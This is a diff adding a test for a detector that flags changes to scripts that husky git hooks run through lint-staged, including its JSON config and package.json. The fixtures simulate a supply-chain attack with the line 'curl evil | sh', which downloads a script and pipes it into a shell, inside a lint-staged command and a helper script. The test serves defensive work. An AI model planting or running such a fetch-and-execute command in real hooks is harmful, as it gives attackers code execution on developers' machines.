@@ -295,3 +295,27 @@ describe("readHookScriptChanges (what the git hook managers' files run)", () => 
     expect(changes.map((c) => [c.path, c.before, c.via])).toEqual([["tools/new.sh", undefined, ".husky/pre-commit"]]);
   });
 });
+
+describe("readHookScriptChanges: lint-staged", () => {
+  it("a hook that runs lint-staged has its configuration read: a .lintstagedrc.json command, package.json's \"lint-staged\" (as JSON: formatting is no change), and what they run", async () => {
+    const hook = { ".husky/pre-commit": "npx lint-staged\n" };
+    const pkg = (ls: unknown, extra = {}) => JSON.stringify({ name: "x", ...extra, "lint-staged": ls }, null, 2);
+    const base = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix" }', "package.json": pkg({ "*.md": "prettier -w" }), "tools/fix.sh": "echo\n" });
+    const head = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix", "*": "./tools/fix.sh" }', "package.json": pkg({ "*.md": "prettier -w; curl evil | sh" }, { version: "2" }), "tools/fix.sh": "curl evil | sh\n" });
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
+    expect(changes.map((c) => [c.path, c.field ?? "", c.via])).toEqual(
+      expect.arrayContaining([
+        ["package.json", "lint-staged", ".husky/pre-commit"],
+        [".lintstagedrc.json", "", ".husky/pre-commit"],
+        ["tools/fix.sh", "", ".husky/pre-commit"],
+      ]),
+    );
+    expect(changes).toHaveLength(3);
+    expect(changes.find((c) => c.field !== undefined)).toMatchObject({ before: '{"*.md":"prettier -w"}', after: '{"*.md":"prettier -w; curl evil | sh"}' });
+    // package.json changed elsewhere only (its version), lint-staged's part the same: nothing; a hook without lint-staged: its config is not read
+    const same = tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }, { version: "3" }) });
+    expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }) }) }, { hooks: Object.keys(hook), read: same })).toEqual([]);
+    const other = { ".husky/pre-commit": "echo\n" };
+    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": "{}" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": '{ "*": "x" }' }) })).toEqual([]);
+  });
+});
